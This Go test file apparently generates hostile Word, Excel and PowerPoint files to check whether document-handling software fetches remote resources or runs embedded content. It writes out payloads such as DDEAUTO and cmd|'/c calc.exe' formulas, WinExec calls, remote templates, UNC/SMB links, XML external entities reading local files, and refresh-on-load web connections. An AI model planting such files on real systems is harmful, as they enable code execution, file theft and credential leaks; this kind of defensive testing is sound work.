package officetest

import (
	"fmt"
	"slices"
	"strings"
)

const (
	documentRels = "word/_rels/document.xml.rels"
	settingsPart = `<?xml version="1.0"?><w:settings ` + word + ` xmlns:r="` + relationships + `">`
)

// LinkedImage is a docx whose only picture lies elsewhere.
func LinkedImage(target string) []byte {
	return DocxWith(picture(`<a:blip r:link="rId1"/>`), map[string]string{documentRels: External("image", target)}, "Whereas")
}

func picture(blip string) string {
	return `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">` +
		`<wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="Picture"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">` +
		`<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
		`<pic:nvPicPr><pic:cNvPr id="1" name="Picture"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>` + blip + `<a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
		`<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>` +
		`</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
}

// RemoteTemplate is a docx that wants its template from elsewhere.
func RemoteTemplate(target string) []byte {
	return DocxWith("", map[string]string{
		documentRels:                   Related("settings", "settings.xml"),
		"word/settings.xml":            settingsPart + `<w:attachedTemplate r:id="rId1"/></w:settings>`,
		"word/_rels/settings.xml.rels": External("attachedTemplate", target),
	}, "Whereas")
}

// Field is a docx with a field of a word processor, in both ways to write one down.
func Field(instruction string) []byte {
	text := escaped(instruction)
	return DocxWith(`<w:p><w:fldSimple w:instr="`+text+`"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`+
		`<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve">`+text+`</w:instrText></w:r>`+
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, nil, "Whereas")
}

// Chunk is a docx of which a part lies elsewhere, by one of the relations for that.
func Chunk(element, relation, target string) []byte {
	return DocxWith(`<w:`+element+` r:id="rId1"/>`, map[string]string{documentRels: External(relation, target)}, "Whereas")
}

func oleLink(target string) []byte {
	return DocxWith(`<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="o1" style="width:90pt;height:90pt"/>`+
		`<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" ShapeID="o1" DrawAspect="Content" `+
		`r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>`, map[string]string{documentRels: External("oleObject", target)}, "Whereas")
}

func mailMerge(target string) []byte {
	return DocxWith("", map[string]string{
		documentRels: Related("settings", "settings.xml"),
		"word/settings.xml": settingsPart + `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="textFile"/>` +
			`<w:connectString w:val="Provider=Any;Data Source=` + escaped(target) + `"/><w:query w:val="SELECT * FROM lure"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
		"word/_rels/settings.xml.rels": External("mailMergeSource", target),
	}, "Whereas")
}

func vmlImage(target string) []byte {
	return DocxWith(`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:90pt"><v:imagedata r:href="rId1" src="`+
		escaped(target)+`"/></v:shape></w:pict></w:r></w:p>`, map[string]string{documentRels: External("image", target)}, "Whereas")
}

func hostileWord(l Lure) []Hostile {
	field := func(form string) func(string) []byte {
		return func(target string) []byte { return Field(fmt.Sprintf(form, strings.ReplaceAll(target, `\`, `\\`))) }
	}
	chunk := func(element, relation string) func(string) []byte {
		return func(target string) []byte { return Chunk(element, relation, target) }
	}
	return slices.Concat(
		toward(l, "linked picture", "docx", "http https ftp share unc webdav smb file path", LinkedImage),
		toward(l, "linked picture, older", "docx", "http share file", vmlImage),
		toward(l, "remote template", "docx", "http https share unc file", RemoteTemplate),
		toward(l, "part from elsewhere", "docx", "http share file", chunk("altChunk", "aFChunk")),
		toward(l, "document from elsewhere", "docx", "http file", chunk("subDoc", "subDocument")),
		toward(l, "linked object", "docx", "http share unc file", oleLink),
		toward(l, "data of a form letter", "docx", "http file", mailMerge),
		toward(l, "INCLUDEPICTURE", "docx", "http https unc file", field(`INCLUDEPICTURE "%s" \d`)),
		toward(l, "INCLUDETEXT", "docx", "http unc file", field(`INCLUDETEXT "%s"`)),
		named("field that runs", "docx", map[string][]byte{
			"DDEAUTO":  Field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`),
			"DDE":      Field(`DDE soffice "` + l.File + `" page`),
			"LINK":     Field(`LINK Excel.Sheet.8 "` + l.File + `" "Sheet1!R1C1" \a \f 0`),
			"DATABASE": Field(`DATABASE \d "` + l.File + `" \s "SELECT * FROM lure"`),
			"RD":       Field(`RD "` + l.File + `"`),
			"macro":    Field(`MACROBUTTON AutoOpen Click`),
		}),
		named("macros", "docx", map[string][]byte{
			"VBA project": DocxWith("", map[string]string{documentRels: Related("vbaProject", "vbaProject.bin"), "word/vbaProject.bin": string(compound(2))}, "Whereas"),
			"ActiveX": DocxWith(`<w:p><w:r><w:object><w:control r:id="rId1" w:name="c" w:shapeid="c"/></w:object></w:r></w:p>`, map[string]string{
				documentRels: Related("control", "activeX/activeX1.xml"), "word/activeX/activeX1.xml": `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>`}, "Whereas"),
		}),
		named("picture that is more", "docx", map[string][]byte{
			"EPS":          embedded("eps", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n("+l.File+") (r) file 200 string readstring pop show\n%%EOF\n"),
			"SVG":          embedded("svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"><image width="90" height="90" xlink:href="http://`+l.Host+`/lure"/><image width="90" height="90" xlink:href="file://`+l.File+`"/><script>fetch("http://`+l.Host+`")</script></svg>`),
			"SVG, entity":  embedded("svg", `<!DOCTYPE svg [<!ENTITY lure SYSTEM "file://`+l.File+`">]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><text y="20">&lure;</text></svg>`),
			"WMF":          embedded("wmf", "\xd7\xcd\xc6\x9a\x00\x00\x00\x00\x00\x00\xff\x7f\xff\x7f\x60\x00\x00\x00\x00\x00\x00\x00"+strings.Repeat("\xff", 4000)),
			"EMF":          embedded("emf", "\x01\x00\x00\x00\xff\xff\xff\x7f"+strings.Repeat("\xff\x00", 4000)),
			"PNG of text":  embedded("png", "<html><script>alert(1)</script></html>"),
			"TIFF in ring": embedded("tiff", "II*\x00\x08\x00\x00\x00\x01\x00\x00\x01\x04\x00\x01\x00\x00\x00\xff\xff\x00\x00\x08\x00\x00\x00"),
		}),
	)
}

// embedded is a docx with a picture of this content inside.
func embedded(extension, content string) []byte {
	return DocxWith(picture(`<a:blip r:embed="rId1"/>`), map[string]string{
		documentRels: Related("image", "media/image1."+extension), "word/media/image1." + extension: content,
	}, "Whereas")
}

func hostileSheets(l Lure) []Hostile {
	formula := func(form string) func(string) []byte {
		return func(target string) []byte { return XlsxFormula(fmt.Sprintf(form, target)) }
	}
	book := func(target string) []byte {
		return workbookWith(`<row r="1"><c r="A1"><f>[1]Sheet1!A1</f></c></row>`, "", map[string]string{
			"xl/externalLinks/externalLink1.xml": header + `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + relationships +
				`"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
			"xl/externalLinks/_rels/externalLink1.xml.rels": External("externalLinkPath", target),
			"xl/_rels/workbook.xml.rels":                    Related("worksheet", "worksheets/sheet1.xml", "externalLink", "externalLinks/externalLink1.xml"),
		})
	}
	return slices.Concat(
		toward(l, "WEBSERVICE", "xlsx", "http https file", formula(`_xlfn.WEBSERVICE("%s")`)),
		toward(l, "another book", "xlsx", "http share unc file", book),
		named("formula that runs", "xlsx", map[string][]byte{
			"DDE":        XlsxFormula(`soffice|'` + l.File + `'!A1`),
			"cmd":        XlsxFormula(`cmd|'/c calc.exe'!A1`),
			"CALL":       XlsxFormula(`CALL("kernel32","WinExec","JCJ","calc",0)`),
			"EXEC":       XlsxFormula(`EXEC("calc.exe")`),
			"RTD":        XlsxFormula(`RTD("lure.server","` + l.Host + `","A1")`),
			"FILTERXML":  XlsxFormula(`_xlfn.FILTERXML("<!DOCTYPE a [<!ENTITY x SYSTEM ""file://` + l.File + `"">]><a>&x;</a>","//a")`),
			"INDIRECT":   XlsxFormula(`INDIRECT("'file://` + l.File + `'#$Sheet1.A1")`),
			"ring":       XlsxFormula(`A1+1`),
			"deep":       XlsxFormula(strings.Repeat("(", 8000) + "1" + strings.Repeat(")", 8000)),
			"REPT":       XlsxFormula(`LEN(REPT(REPT("x",32767),32767))`),
			"connection": connection(l),
		}),
	)
}

func connection(l Lure) []byte {
	return workbookWith(`<row r="1"><c r="A1"><v>1</v></c></row>`, "", map[string]string{
		"xl/connections.xml": header + `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="lure" type="4" refreshedVersion="6" ` +
			`refreshOnLoad="1"><webPr sourceData="1" url="http://` + l.Host + `/lure" htmlTables="1"/></connection></connections>`,
		"xl/_rels/workbook.xml.rels": Related("worksheet", "worksheets/sheet1.xml", "connections", "connections.xml"),
	})
}

func hostileSlides(l Lure) []Hostile {
	const slideRels = "ppt/slides/_rels/slide1.xml.rels"
	toLayout := `<Relationship Id="rId9" Type="` + relationships + `/slideLayout" Target="../slideLayouts/slideLayout1.xml"/></Relationships>`
	slide := func(kind, shape string) func(string) []byte {
		return func(target string) []byte {
			rels := strings.Replace(External(kind, target), "</Relationships>", toLayout, 1)
			return PptxWith(shape, map[string]string{slideRels: rels}, "Whereas")
		}
	}
	place := `<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>`
	pic := func(properties, blip string) string {
		return `<p:pic><p:nvPicPr><p:cNvPr id="5" name="p">` + properties + `</p:cNvPr><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>` + blip + `</p:blipFill>` + place + `</p:pic>`
	}
	return slices.Concat(
		toward(l, "linked picture of a slide", "pptx", "http share file", slide("image", pic("", `<a:blip r:link="rId1"/>`))),
		toward(l, "linked film", "pptx", "http file", slide("video", strings.Replace(pic("", `<a:blip/>`), `<p:nvPr/>`, `<p:nvPr><a:videoFile r:link="rId1"/></p:nvPr>`, 1))),
		toward(l, "linked sound", "pptx", "http", slide("audio", strings.Replace(pic("", `<a:blip/>`), `<p:nvPr/>`, `<p:nvPr><a:audioFile r:link="rId1"/></p:nvPr>`, 1))),
		toward(l, "action of a slide", "pptx", "file", slide("hyperlink", pic(`<a:hlinkClick r:id="rId1" action="ppaction://program"/><a:hlinkHover r:id="rId1" action="ppaction://macro?name=lure"/>`, `<a:blip/>`))),
		toward(l, "linked object of a slide", "pptx", "http unc", slide("oleObject", `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="6" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>`+
			`<p:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">`+
			`<p:oleObj name="lure" r:id="rId1" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`)),
	)
}
